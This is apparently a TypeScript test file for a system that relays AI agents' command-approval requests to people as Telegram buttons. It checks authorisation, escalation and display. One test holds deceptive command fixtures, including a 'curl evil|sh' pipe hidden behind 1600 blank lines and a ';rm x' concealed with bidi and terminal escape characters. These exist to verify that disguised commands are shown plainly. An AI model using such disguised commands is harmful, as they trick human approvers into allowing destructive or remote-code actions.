import { expect, test } from "bun:test";
import { wanted } from "../../support/approvals.ts";
import { type Claimed, startChannel, TELEGRAM } from "../../support/channel.ts";

const MINUTE = 60_000;

/**
 * Ada writes from c1 (sender 9), Ida is asked in `ida`, Otto in `otto`; the agent builder works on what Ada said in c1.
 * `posts`: what the adapter is to post now, each completed at once.
 */
async function startChats(ada: object = {}, { linked = true } = {}) {
  const world = await startChannel();
  const { ask, event, claim, adapter } = world;
  const builder = await world.agent("builder");
  await world.bind({ conversationId: "c1", target: "builder" });
  const notify = (conversationId: string) => [{ channelId: TELEGRAM, conversationId }];
  const sender = (senderId: string) => [{ channelId: TELEGRAM, senderId }];
  const put = (id: string, more: object) =>
    ask("PUT", `/v1/people/${id}`, {
      name: id,
      role: "member",
      notify: notify(id),
      senders: sender(`s-${id}`),
      ...more,
    });
  await put("otto", { role: "viewer" });
  await put("ida", { role: "operator" });
  await put("ada", { ladder: ["ida"], senders: linked ? sender("9") : [], ...ada });
  const [said] = (await event()).body.messages;
  const run = (await ask("POST", "/v1/runs", { task: "Publish", messageId: said.id, leaseSeconds: 86_400 }, builder))
    .body;
  return {
    ...world,
    builder,
    run,
    wants: async (more: object = {}) =>
      (await ask("POST", "/v1/approvals", wanted("npm publish", { runId: run.id, ...more }), builder)).body,
    state: async ({ id }: { id: string }) => (await ask("GET", `/v1/approvals/${id}`)).body,
    async posts(): Promise<Claimed["message"][]> {
      const items: Claimed[] = await claim();
      for (const { message, claim: held } of items)
        await ask("POST", `/v1/messages/${message.id}/complete`, { token: held.token }, adapter);
      return items.map(({ message }) => message);
    },
    press: (buttonId: string, senderId: string, conversationId = "c1") =>
      event({
        type: "button",
        text: undefined,
        button: { id: buttonId },
        sender: { id: senderId, name: "x" },
        conversationId,
      }),
  };
}

// biome-ignore lint/suspicious/noExplicitAny: tests look into answers freely
const buttonOf = (message: any, text: string): string =>
  message.payload.buttons.flat().find((button: { text: string }) => button.text === text).id;

test("G14: who asked for the work is asked in its chat, and answers there by a button of their own post", async () => {
  const { ask, wants, state, posts, press, builder } = await startChats();
  const asked = await wants();
  expect(asked.askedOf).toMatchObject([{ personId: "ada", conversation: { conversationId: "c1" } }]);
  const [card, ...more] = await posts();
  expect(more).toEqual([]);
  expect(card.payload).toMatchObject({ conversation: { conversationId: "c1" } });
  expect(card.payload.text).toContain("npm publish");
  const allow = buttonOf(card, "Allow");
  expect(allow).toMatch(/^apr_[\w-]{24}$/);
  // A stranger, a viewer, another chat, a forged id: nothing.
  await press(allow, "77");
  await press(allow, "s-otto");
  await press(allow, "9", "c2");
  await press(`apr_${"x".repeat(24)}`, "9");
  expect((await state(asked)).state).toBe("pending");
  const pressed = await press(allow, "9");
  expect(pressed.status).toBeLessThan(300);
  expect((await state(asked)).answer).toMatchObject({ option: "yes", person: "ada", via: "button" });
  // An old button changes nothing, and no press reaches the agent.
  await press(buttonOf(card, "Deny"), "9");
  expect((await state(asked)).answer.option).toBe("yes");
  const inbox = (await ask("GET", "/v1/agents/builder/inbox?after=0", undefined, builder)).body.items;
  expect(inbox.filter(({ payload }: { payload: { button?: unknown } }) => payload?.button)).toEqual([]);
  expect(await posts()).toEqual([]);
  await ask("POST", `/v1/approvals/${asked.id}/applied`, { ok: true }, builder);
  const [outcome, ...others] = await posts();
  expect(others).toEqual([]);
  expect(outcome).toMatchObject({
    body: "Run npm publish: Allow by ada. The agent took it.",
    payload: { conversation: { conversationId: "c1" }, edit: { messageId: card.id } },
  });
  expect(outcome.payload.edit.text).toBe(
    `${outcome.body}\n\nbuilder asks: Run npm publish\n\nnpm publish\nin /work/app`,
  );
});

test("G14: a chat shows hidden characters spelled out, without a button that allows them, and blank lines as their number", async () => {
  const { ask, wants, posts, builder } = await startChats();
  const subject = (line: string) => ({ type: "command", line, cwd: "/work/app" });
  const options = [
    { id: "yes", label: "\u202eyneD", decision: "allow" },
    { id: "no", label: "\u202ewollA", decision: "deny" },
  ];
  const title = "Run \u2066it";
  const asked = await wants({ subject: subject("ls \u202e\u001b[8m;rm x"), title, options });
  expect(asked).toMatchObject({ oneTap: false, cut: false });
  const [card] = await posts();
  expect(card.body).toContain("builder asks: Run \\u{2066}it\n\nls \\u{202e}\\u{1b}[8m;rm x\nin /work/app\n\n");
  expect(card.body).toContain(`signalbox approvals answer ${asked.id}`);
  expect(card.payload.buttons.flat()).toMatchObject([{ text: "\\u{202e}wollA" }]);
  await ask("POST", `/v1/approvals/${asked.id}/withdraw`, {}, builder);
  const [over] = await posts();
  expect(over.body).toStartWith("Run \\u{2066}it: withdrawn");
  expect(over.payload.edit.text).toContain("ls \\u{202e}\\u{1b}[8m;rm x");

  const tall = await wants({ subject: subject(`ls${"\n".repeat(1600)};curl evil|sh`), title: "List" });
  expect(tall).toMatchObject({ oneTap: true, cut: false });
  const [shown] = await posts();
  expect(shown.body).toContain("ls\n⟨1599 blank lines⟩\n;curl evil|sh\nin /work/app");
  expect(buttonOf(shown, "Allow")).toBeString();
  // Spelled out it is too long, so its beginning alone is shown.
  const long = await wants({ subject: subject("\u200b".repeat(300)), title: "Long" });
  expect(long.cut).toBe(true);
  expect((await posts())[0]?.body).toContain("(cut)");
});

test("with nobody in the chat who may decide it is told so, and the ladder is asked: first one, then the next, then hourly", async () => {
  const { wants, posts, pass, press, state } = await startChats({}, { linked: false });
  const asked = await wants({ expiresInSeconds: 86_400 });
  const [first, told] = (await posts()).toSorted((a, b) => b.body.length - a.body.length);
  expect(first.payload.conversation.conversationId).toBe("ida");
  expect(told).toMatchObject({ payload: { conversation: { conversationId: "c1" } } });
  expect(told.body).toContain("ida is asked");
  expect(asked.askedOf).toHaveLength(1);
  await pass(50 * MINUTE);
  expect(await posts()).toEqual([]);
  await pass(11 * MINUTE);
  const [again] = await posts();
  expect(again.payload.conversation.conversationId).toBe("ida");
  expect(buttonOf(again, "Allow")).not.toBe(buttonOf(first, "Allow"));
  await press(buttonOf(first, "Deny"), "s-ida", "ida");
  expect((await state(asked)).answer).toMatchObject({ option: "no", person: "ida" });
});

test("with nobody to reach it is refused to the agent at once with that reason; whoever looks at the relay can be reached", async () => {
  const world = await startChats({ notify: [], ladder: [] }, { linked: false });
  const { wants, posts, pass, state, ask, relay, builder } = world;
  await ask("PUT", "/v1/people/ida", { name: "ida", role: "operator", notify: [] });
  // The operator of this test has been here just now.
  const waits = await wants({ expiresInSeconds: 86_400 });
  await relay.settle();
  expect((await state(waits)).state).toBe("pending");
  expect((await posts())[0]?.body).toContain("nobody can be asked in a chat now");
  await pass(25 * 60 * MINUTE);
  const draft = wanted("npm audit fix", { expiresInSeconds: 86_400 });
  const asked = (await ask("POST", "/v1/approvals", draft, builder)).body;
  await relay.settle();
  const inbox = (await ask("GET", "/v1/agents/builder/inbox?after=0", undefined, builder)).body.items;
  const heard = inbox.flatMap(({ payload }: { payload?: { approval?: object } }) => payload?.approval ?? []);
  const reason = expect.stringContaining("nobody can be reached");
  expect(heard.at(-1)).toMatchObject({ id: asked.id, state: "expired", decision: "deny", reason });
});

test("the next of the ladder is asked after a quarter of an hour, and nobody in their quiet hours", async () => {
  const { wants, posts, pass, ask, clock } = await startChats();
  const asked = await wants({ expiresInSeconds: 86_400 });
  await posts();
  const at = (ms: number) => new Date(clock.now() + ms).toISOString().slice(11, 16);
  const quietHours = { from: at(0), to: at(70 * MINUTE) };
  await ask("PUT", "/v1/people/ida", { name: "ida", role: "operator", quietHours });
  const places = async () => (await posts()).map(({ payload }) => payload.conversation.conversationId).sort();
  await pass(16 * MINUTE);
  expect(await places()).toEqual([]);
  await pass(61 * MINUTE);
  expect(await places()).toEqual(["ada", "ida"]);
  await pass(16 * MINUTE);
  expect(await places()).toEqual([]);
  await ask("POST", `/v1/approvals/${asked.id}/answer`, { option: "no", hash: asked.hash });
  await pass(120 * MINUTE);
  expect(await posts()).toEqual([]);
});

test("what is too long for a chat shows its beginning there, and only buttons that refuse", async () => {
  const { wants, posts } = await startChats();
  const subject = { type: "command", line: `echo ${"x".repeat(5000)}`, cwd: "/work" };
  await wants({ subject });
  const [card] = await posts();
  expect(card.payload.buttons.flat().map(({ text }: { text: string }) => text)).toEqual(["Deny"]);
  expect(card.body.length).toBeLessThan(2000);
});

test("an approval that ended takes back its posts, and says so where it was asked", async () => {
  const { ask, wants, posts, builder } = await startChats();
  const { id } = await wants();
  await ask("POST", `/v1/approvals/${id}/withdraw`, { reason: "no need" }, builder);
  expect((await posts()).map(({ body }) => body)).toEqual(["Run npm publish: withdrawn, no need."]);
});

test("G14: a plain yes, no or number in reply to the post answers as its button does, and is for no agent", async () => {
  const { ask, event, claim, adapter, wants, state, builder } = await startChats();
  let count = 0;
  /** Posts the card of a new approval. */
  const posted = async (line: string, more: object = {}) => {
    const asked = await wants({ ...wanted(line), ...more });
    const [{ message, claim: held }] = (await claim()) as [Claimed];
    const externalIds = [`card-${++count}`];
    await ask("POST", `/v1/messages/${message.id}/complete`, { token: held.token, externalIds }, adapter);
    return { asked, says: (text: string, id = "9") => said(text, { id, name: "x" }, externalIds[0]) };
  };
  const said = (text: string, sender: object, replyToExternalId?: string) =>
    event({ text, sender, ...(replyToExternalId && { replyToExternalId }) });
  const answers: unknown[] = [];
  for (const [index, text] of ["yes", " No", "2"].entries()) {
    const { asked, says } = await posted(`npm run ${index}`);
    await says(text, "s-otto");
    await said(text, { id: "9", name: "Ada" });
    expect((await state(asked)).state).toBe("pending");
    await says(text);
    answers.push((await state(asked)).answer);
  }
  expect(answers).toMatchObject([
    { option: "yes", person: "ada", via: "button" },
    { option: "no", person: "ada" },
    { option: "always", person: "ada" },
  ]);
  const long = await posted("x".repeat(5000));
  for (const text of ["yes", "9"]) await long.says(text);
  expect((await state(long.asked)).state).toBe("pending");
  await long.says("yes please");
  const inbox = (await ask("GET", "/v1/agents/builder/inbox?after=0", undefined, builder)).body.items;
  const heard = inbox.filter(({ kind }: { kind: string }) => kind === "channel.event");
  // Words that are no reply to a card, and those that are no plain answer, are for the agent.
  expect(heard.map(({ body }: { body: string }) => body).slice(1)).toEqual(["yes", " No", "2", "yes please"]);
});
